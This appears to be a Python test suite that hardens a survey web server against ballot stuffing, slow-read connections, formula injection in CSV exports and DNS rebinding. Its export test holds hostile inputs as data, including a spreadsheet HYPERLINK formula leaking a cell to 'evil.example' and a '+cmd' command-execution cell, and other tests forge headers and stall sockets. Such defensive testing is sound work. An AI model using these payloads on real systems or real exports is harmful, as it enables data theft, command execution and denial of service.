"""The survey served on the open internet (issue 24): each test repeats one of the hostile probe's findings and fails
on the code the probe ran against.

1. ballot stuffing from rotating addresses; forwarded addresses; limits sized from the target; limits across restarts
2. clients that never read their replies
3. exposure and response times enforced by the server
4. an unwritable database: /healthz, 503 instead of 500 and a reset connection, one line at startup
5. a large header in one piece (tests/test_survey_server.py: test_malformed_and_oversized_requests_...)
6. exports that a spreadsheet would run
7. consent 1, HEAD, error titles, /start again, the Host allow-list

Simulated participants exist only in these tests.
"""
import csv
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import warnings
from pathlib import Path

import httpx
import pytest
from survey_fixtures import make_survey

import koalarization
from koalarization.survey.app import create_app
from koalarization.survey.security import ParticipationLimits, RateLimit
from koalarization.survey.server import ServerLimits, free_port, running_in_thread

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

SLACK = 1.5
TF_NOISE = re.compile(r"absl::InitializeLog|^[IWE]\d{4} [\d:. ]+\d+ \w+\.cc:\d+\]")
SOURCE = str(Path(koalarization.__file__).resolve().parents[1])  # the package under test, for subprocesses


@pytest.fixture(scope="module")
def survey_dir(tmp_path_factory):
    return make_survey(tmp_path_factory.mktemp("open"), n=12)


def start_json(client, **extra):
    return client.post("/api/participants", json={"consent": True, **extra})


# 1. ballot stuffing ----------------------------------------------------------------------------------------------

def test_rotating_addresses_within_one_network_share_one_limit(survey_dir, tmp_path):
    limits = ParticipationLimits(per_client=RateLimit(3, 60.0), overall=RateLimit(100, 1.0), max_participants=None)
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite", limits=limits)
    for addresses in ([f"2001:db8:7:1::{i:x}" for i in range(1, 9)], [f"203.0.113.{i}" for i in range(1, 9)],
                      [f"::ffff:198.51.100.{i}" for i in range(1, 9)]):
        codes = [start_json(TestClient(app, client=(address, 5000))).status_code for address in addresses]
        assert codes == [201] * 3 + [429] * 5, (addresses[0], codes)
    other = TestClient(app, client=("2001:db8:7:2::1", 5000))  # the next /64
    assert start_json(other).status_code == 201


def test_forwarded_for_is_believed_only_from_a_configured_proxy(survey_dir, tmp_path):
    limits = ParticipationLimits(per_client=RateLimit(2, 60.0), overall=RateLimit(100, 1.0), max_participants=None)
    forged = [{"X-Forwarded-For": f"198.51.{i}.7"} for i in range(6)]  # six different /24s
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite", limits=limits)
    with running_in_thread(app) as base_url:  # served directly: any local process could send these headers
        codes = [httpx.post(f"{base_url}/api/participants", json={"consent": True}, headers=h).status_code
                 for h in forged]
    assert codes == [201, 201, 429, 429, 429, 429]
    app = create_app(survey_dir, db_path=tmp_path / "b.sqlite", limits=limits)
    with running_in_thread(app, trusted_proxies=["127.0.0.1"]) as base_url:  # behind a proxy on this machine
        codes = [httpx.post(f"{base_url}/api/participants", json={"consent": True}, headers=h).status_code
                 for h in forged]
    assert codes == [201] * 6


def test_limits_are_sized_from_the_target_sample(survey_dir, tmp_path):
    sized = ParticipationLimits.for_target(60)
    assert (sized.max_participants, sized.overall.burst, sized.overall.every_s) == (90, 30, 10.0)
    small = make_survey(tmp_path / "small", n=12, target_participants=8)
    app = create_app(small, db_path=tmp_path / "a.sqlite",)
    assert app.state.context.max_participants == 12  # 1.5 x 8, not the old fixed 1000
    many = [TestClient(app, client=(f"192.0.{i}.1", 5000)) for i in range(14)]
    codes = [start_json(client).status_code for client in many]
    assert codes[:10] == [201] * 10 and 429 in codes[10:]  # the overall burst is max(10, N/2), not 200


def test_limits_survive_a_restart(survey_dir, tmp_path):
    limits = ParticipationLimits(per_client=RateLimit(2, 600.0), overall=RateLimit(100, 1.0), max_participants=None)
    first = create_app(survey_dir, db_path=tmp_path / "a.sqlite", limits=limits)
    assert [start_json(TestClient(first)).status_code for _ in range(3)] == [201, 201, 429]
    restarted = create_app(survey_dir, db_path=tmp_path / "a.sqlite", limits=limits)
    assert start_json(TestClient(restarted)).status_code == 429
    stored = sqlite3.connect(tmp_path / "limits.sqlite").execute("SELECT key FROM buckets").fetchall()
    assert all(b"testclient" not in bytes(key) for (key,) in stored)  # hashed, no address or prefix in clear


def test_a_crowd_platform_id_is_one_participant(survey_dir, tmp_path):
    limits = ParticipationLimits(per_client=RateLimit(1, 600.0), overall=RateLimit(100, 1.0), max_participants=None)
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite", limits=limits)
    client = TestClient(app)
    first = start_json(client, external={"PROLIFIC_PID": "5f0c1d2e3a4b5c6d7e8f9a0b"})
    again = start_json(client, external={"PROLIFIC_PID": "5f0c1d2e3a4b5c6d7e8f9a0b"})  # not rate-limited: a resume
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json()["participant_id"] == again.json()["participant_id"]
    assert start_json(client, external={"PROLIFIC_PID": "aaaaaaaaaaaaaaaaaaaaaaaa"}).status_code == 429
    assert app.state.store.summary()["participants"] == 1


# 2. clients that never read ---------------------------------------------------------------------------------------

def _unread_sockets(base_url, request, count):
    host, port = base_url.removeprefix("http://").split(":")
    sockets = []
    for _ in range(count):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # a client that reads nothing
        sock.connect((host, int(port)))
        sock.setblocking(False)
        try:
            sock.send(request)
        except BlockingIOError:
            pass
        sockets.append(sock)
    return sockets


def _wait_all_closed(sockets, limit):
    deadline = time.monotonic() + limit
    still_open = list(sockets)
    while still_open and time.monotonic() < deadline:
        still_open = [s for s in still_open if not _closed(s)]
        time.sleep(0.05)
    for sock in sockets:
        sock.close()
    return len(still_open)


def test_clients_that_never_read_their_replies_cannot_hold_the_server(survey_dir, tmp_path):
    """The probe: (limit - 1) sockets, each asking for a photo 150 times and never reading. /healthz stays up (on the
    old server it gave 503 for 45 s and more), and the sockets are closed."""
    limits = ServerLimits(request_timeout=5.0, keep_alive=5.0, limit_concurrency=8)
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite",
                     limits=ParticipationLimits(per_client=RateLimit(100, 1.0)))
    with running_in_thread(app, limits=limits) as base_url:
        url = httpx.post(f"{base_url}/api/participants", json={"consent": True}).json()["image_url"]
        stalled = _unread_sockets(base_url, f"GET {url} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 150, 7)
        time.sleep(0.5)
        health = [httpx.get(f"{base_url}/healthz", timeout=5).status_code for _ in range(3)]
        assert health == [200, 200, 200]
        assert _wait_all_closed(stalled, SLACK) == 0
        idle = _unread_sockets(base_url, f"GET {url} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), 7)  # one each
        time.sleep(1.2)  # older than EVICT_AFTER_S: a newcomer may take their place
        assert [httpx.get(f"{base_url}/healthz", timeout=5).status_code for _ in range(3)] == [200, 200, 200]
        assert _wait_all_closed(idle, limits.request_timeout + SLACK) == 0


def test_a_reply_that_is_never_read_is_abandoned_after_the_send_timeout():
    """A reply too large for the socket buffers, to a client that never reads it: closed after send_timeout (the
    old server kept such a connection open for as long as the client liked)."""
    big = b"x" * (16 << 20)

    async def app(scope, receive, send):
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-length", str(len(big)).encode())]})
        await send({"type": "http.response.body", "body": big})

    limits = ServerLimits(request_timeout=30.0, send_timeout=1.0, keep_alive=30.0, limit_concurrency=16)
    with running_in_thread(app, limits=limits) as base_url:
        (sock,) = _unread_sockets(base_url, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", 1)
        time.sleep(limits.send_timeout + SLACK)  # read nothing until the server has given up
        sock.setblocking(True)
        sock.settimeout(5)
        received = 0
        try:
            while chunk := sock.recv(1 << 20):
                received += len(chunk)
        except (ConnectionResetError, TimeoutError):
            pass
        sock.close()
    assert received < len(big) // 2, received  # the rest was never sent: the server closed the connection


def _closed(sock):
    """Whether the server closed or reset `sock` (draining what it had sent)."""
    try:
        while True:
            if sock.recv(1 << 20) == b"":
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


# 3. exposure and response times -----------------------------------------------------------------------------------

def test_a_photo_is_served_only_for_the_current_question(survey_dir, tmp_path):
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite")
    client = TestClient(app)
    mine, theirs = start_json(client).json(), start_json(client).json()
    assert client.get(mine["image_url"]).status_code == 200
    assert client.get(f"/p/{mine['participant_id']}/img/{theirs['image_id']}.jpg").status_code in (200, 404)
    if theirs["image_id"] != mine["image_id"]:
        assert client.get(f"/p/{mine['participant_id']}/img/{theirs['image_id']}.jpg").status_code == 404
    client.post("/api/answers", json={"participant_id": mine["participant_id"], "image_id": mine["image_id"],
                                      "answer": "fake"})
    assert client.get(mine["image_url"]).status_code == 404  # answered: never again
    assert client.get(f"/img/{mine['image_id']}.jpg").status_code == 404  # no address serves any photo to anyone


def test_exposure_time_is_enforced_by_the_server(tmp_path):
    survey = make_survey(tmp_path, n=12, exposure_ms=1000)
    app = create_app(survey, db_path=tmp_path / "a.sqlite")
    now = [5000.0]
    app.state.store.clock = lambda: now[0]
    client = TestClient(app)
    state = start_json(client).json()
    page = f"/p/{state['participant_id']}"
    assert 'data-exposure-ms="1000"' in client.get(page).text
    assert client.get(state["image_url"]).status_code == 200
    now[0] += 0.6
    assert client.get(state["image_url"]).status_code == 200  # a reload within the exposure time
    assert 'data-exposure-ms="400"' in client.get(page).text  # only what is left of it
    now[0] += 0.5
    assert client.get(state["image_url"]).status_code == 410  # 1.1 s after it was first sent: gone
    reloaded = client.get(page).text
    assert "<img" not in reloaded and "shown for its time" in reloaded
    sent = client.post(f"{page}/answer", data={"image_id": state["image_id"], "answer": "fake"},
                       follow_redirects=False)
    assert sent.status_code == 303  # an answer from memory is still taken


def test_response_time_is_checked_against_the_servers_clock(survey_dir, tmp_path):
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite")
    now = [100.0]
    app.state.store.clock = lambda: now[0]
    client = TestClient(app)
    state = start_json(client).json()
    client.get(state["image_url"])
    now[0] += 1.8  # the photo has been on screen for 1.8 s
    body = {"participant_id": state["participant_id"], "image_id": state["image_id"], "answer": "real"}
    too_long = client.post("/api/answers", json={**body, "response_ms": 9000})
    assert too_long.status_code == 422 and "since the server sent the photo" in too_long.json()["error"]
    assert client.post("/api/answers", json={**body, "response_ms": 332}).status_code == 200  # a refresh's timer
    row = sqlite3.connect(tmp_path / "a.sqlite").execute(
        "SELECT response_ms, server_ms, shown_at FROM answers").fetchone()
    assert row[0] == 332 and row[1] == 1800 and row[2]  # both times stored: the server's says 1.8 s


# 4. an unwritable database ----------------------------------------------------------------------------------------

def _unprivileged(command):
    """`command` run so that file permissions bind it: as it is for a normal user; for root (CI containers) without
    the capabilities that let root write to read-only files (util-linux's setpriv), which is what a non-root server
    would meet."""
    if os.geteuid() != 0:
        return command
    if not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: file permissions cannot be made to bind")
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search,-fowner", "--", *command]


@pytest.fixture()
def shared_survey():
    """A survey in a folder another user can read, its private/ folder owned by the user the server runs as."""
    base = Path(tempfile.mkdtemp(prefix="koala-unwritable-"))
    base.chmod(0o755)
    survey = make_survey(base, n=12)
    private = survey / "private"
    (private / "organiser_token").write_text("token\n")
    yield survey
    private.chmod(0o700)
    shutil.rmtree(base, ignore_errors=True)


SERVER = """
import sys
from koalarization.survey.app import create_app
from koalarization.survey.server import ServerLimits, serve
app = create_app(sys.argv[1], organiser_token="token")
serve(app, "127.0.0.1", int(sys.argv[2]), ServerLimits(request_timeout=5, keep_alive=5))
"""


def _http(sock, request):
    sock.sendall(request)
    data = b""
    while b"\r\n\r\n" not in data:
        data += sock.recv(65536)
    head, _, body = data.partition(b"\r\n\r\n")
    length = int(next(line.split(b":")[1] for line in head.split(b"\r\n") if line.lower().startswith(b"content-len")))
    while len(body) < length:
        body += sock.recv(65536)
    return head.decode(), body


def test_an_unwritable_database_is_reported_by_healthz_and_answered_503(shared_survey):
    port = free_port()
    env = {**os.environ, "PYTHONPATH": SOURCE}
    process = subprocess.Popen(_unprivileged([sys.executable, "-c", SERVER, str(shared_survey), str(port)]), env=env,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        base = f"http://127.0.0.1:{port}"
        for _ in range(200):
            try:
                if httpx.get(f"{base}/healthz", timeout=1).json() == {"ok": True}:
                    break
            except httpx.HTTPError:
                time.sleep(0.1)
        state = httpx.post(f"{base}/api/participants", json={"consent": True}).json()
        private = shared_survey / "private"
        for path in private.iterdir():
            path.chmod(0o444)
        private.chmod(0o555)
        health = httpx.get(f"{base}/healthz")
        assert health.status_code == 503 and health.json()["ok"] is False
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        body = (f'{{"participant_id": "{state["participant_id"]}", "image_id": "{state["image_id"]}", '
                f'"answer": "real"}}').encode()
        head, reply = _http(sock, b"POST /api/answers HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                                  b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
        assert head.startswith("HTTP/1.1 503") and b"cannot save answers" in reply, head
        head, _ = _http(sock, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")  # the same connection still works
        assert head.startswith("HTTP/1.1 503")
        sock.close()
    finally:
        process.kill()
        process.wait()


def test_starting_on_an_unwritable_folder_fails_with_one_line(shared_survey):
    private = shared_survey / "private"
    private.chmod(0o555)
    env = {**os.environ, "PYTHONPATH": SOURCE}
    done = subprocess.run(_unprivileged([sys.executable, "-m", "koalarization.cli", "survey", "serve", "--survey",
                                         str(shared_survey), "--port", str(free_port())]),
                          env=env, capture_output=True, text=True, timeout=60)
    # TensorFlow's C++ start-up notes come first while `koala` imports keras for its other commands (not ours)
    lines = [line for line in done.stderr.strip().splitlines() if not TF_NOISE.search(line)]
    assert done.returncode == 2 and len(lines) == 1, done.stderr
    assert str(private) in lines[0] and "Traceback" not in done.stderr


# 6. exports ---------------------------------------------------------------------------------------------------------

def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _unsafe(cells):
    """Cells a spreadsheet would run as a formula, or that hide control or bidirectional-override characters."""
    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            or any((ord(ch) < 32 and ch != "\n") or 0x7f <= ord(ch) <= 0x9f or ch in bidi for ch in c)]


def test_exports_neutralise_formulas_and_control_characters(survey_dir, tmp_path):
    from koalarization.survey.export import export_participants, export_responses

    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite")
    client = TestClient(app)
    nasty = '=HYPERLINK("http://evil.example/?leak="&A1,"click")\x00\u202egnp.exe\x1b[31m'
    for comment, agent in ((nasty, "+cmd|' /C calc'!A0"), ("@SUM(1+1)", "\tTAB")):
        participant_id = app.state.store.create_participant(comment=comment, user_agent=agent)
        state = client.get(f"/api/participants/{participant_id}").json()
        client.post("/api/answers", json={"participant_id": participant_id, "image_id": state["image_id"],
                                          "answer": "real"})
    export_participants(survey_dir, tmp_path / "a.sqlite", tmp_path / "people.csv")
    export_responses(survey_dir, tmp_path / "a.sqlite", tmp_path / "answers.csv")
    for name in ("people.csv", "answers.csv"):
        assert not _unsafe(_cells(tmp_path / name)), (name, _unsafe(_cells(tmp_path / name)))
    with open(tmp_path / "people.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["comment"].startswith("'=HYPERLINK(") and "\ufffd" in rows[0]["comment"]
    stored = sqlite3.connect(tmp_path / "a.sqlite").execute("SELECT comment FROM participants").fetchall()
    assert (nasty,) in stored  # the database keeps what was typed
    # a crowd platform's ids come from the address bar: neutralised the same way
    client.post("/api/participants", json={"consent": True, "external": {"PROLIFIC_PID": "-A1", "STUDY_ID": "-1"}})
    export_participants(survey_dir, tmp_path / "a.sqlite", tmp_path / "people.csv")
    assert not _unsafe(_cells(tmp_path / "people.csv"))
    with open(tmp_path / "people.csv", newline="", encoding="utf-8") as handle:
        crowd = [row for row in csv.DictReader(handle) if row["external_id"]]
    assert crowd[0]["external_id"] == "'-A1" and crowd[0]["external_params"] == "STUDY_ID=-1"


# 7. the minor points ----------------------------------------------------------------------------------------------

def test_only_json_true_is_consent(survey_dir, tmp_path):
    client = TestClient(create_app(survey_dir, db_path=tmp_path / "a.sqlite"))
    for value in (1, 1.0, "true", "yes", [True]):
        assert client.post("/api/participants", json={"consent": value}).status_code == 422, value
    assert client.post("/api/participants", json={"consent": True}).status_code == 201


def test_head_is_answered_like_get_without_a_body(survey_dir, tmp_path):
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite")
    client = TestClient(app)
    state = start_json(client).json()
    for path in ("/", "/healthz", f"/p/{state['participant_id']}", state["image_url"], "/static/survey.css"):
        head, get = client.head(path), client.get(path)
        assert head.status_code == 200 and head.content == b"", path
        assert head.headers["content-type"] == get.headers["content-type"] and head.headers["cache-control"]
    shown = sqlite3.connect(tmp_path / "a.sqlite").execute("SELECT times_served FROM shown").fetchall()
    assert shown == [(1,)]  # the GET counted, the HEAD did not
    assert client.head("/no/such/page").status_code == 404


def test_error_pages_name_their_status_in_the_title(survey_dir, tmp_path):
    client = TestClient(create_app(survey_dir, db_path=tmp_path / "a.sqlite"))
    assert "<title>404: Not found</title>" in client.get("/no/such/page").text
    assert "<title>422: Invalid input</title>" in client.post("/start", data={"comment": "x"}).text


def test_starting_again_in_the_same_browser_keeps_the_new_details(survey_dir, tmp_path):
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite")
    client = TestClient(app)
    first = client.post("/start", data={"consent": "yes", "comment": "first"}, follow_redirects=False)
    again = client.post("/start", data={"consent": "yes", "age_bracket": "25-34", "colour_vision": "normal",
                                        "comment": "second"}, follow_redirects=False)
    assert first.headers["location"] == again.headers["location"]
    row = app.state.store.participants_rows()
    assert len(row) == 1 and (row[0]["age_bracket"], row[0]["colour_vision"], row[0]["comment"]) == (
        "25-34", "normal", "first\nsecond")


def test_a_dns_rebinding_host_is_refused(survey_dir, tmp_path):
    app = create_app(survey_dir, db_path=tmp_path / "a.sqlite", allowed_hosts=["survey.example.org"])
    client = TestClient(app)
    for host, status in (("survey.example.org", 200), ("SURVEY.example.org:443", 200), ("127.0.0.1:8000", 200),
                         ("[::1]:8000", 200), ("localhost:8000", 200), ("rebind.attacker.example", 400),
                         ("rebind.attacker.example:8000", 400), ("", 400)):
        assert client.get("/", headers={"host": host}).status_code == status, host
    refused = client.post("/api/participants", json={"consent": True}, headers={"host": "rebind.attacker.example"})
    assert refused.status_code == 400 and app.state.store.summary()["participants"] == 0


def test_the_serve_command_refuses_forged_addresses_and_foreign_hosts(survey_dir, tmp_path):
    """`koala survey serve` as the probe ran it: no trusted proxy, a Host allow-list."""
    port = free_port()
    env = {**os.environ, "PYTHONPATH": SOURCE}
    process = subprocess.Popen([sys.executable, "-m", "koalarization.cli", "survey", "serve", "--survey",
                                str(survey_dir), "--db", str(tmp_path / "a.sqlite"), "--port", str(port),
                                "--per-client-burst", "2"], env=env, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            try:
                httpx.get(f"{base}/healthz", timeout=1)
                break
            except httpx.HTTPError:
                time.sleep(0.1)
        codes = [httpx.post(f"{base}/api/participants", json={"consent": True},
                            headers={"X-Forwarded-For": f"10.{i}.0.1"}).status_code for i in range(4)]
        assert codes == [201, 201, 429, 429]
        assert httpx.get(f"{base}/", headers={"host": "rebind.attacker.example"}).status_code == 400
        assert httpx.get(f"{base}/").status_code == 200
    finally:
        process.terminate()
        process.wait(timeout=10)
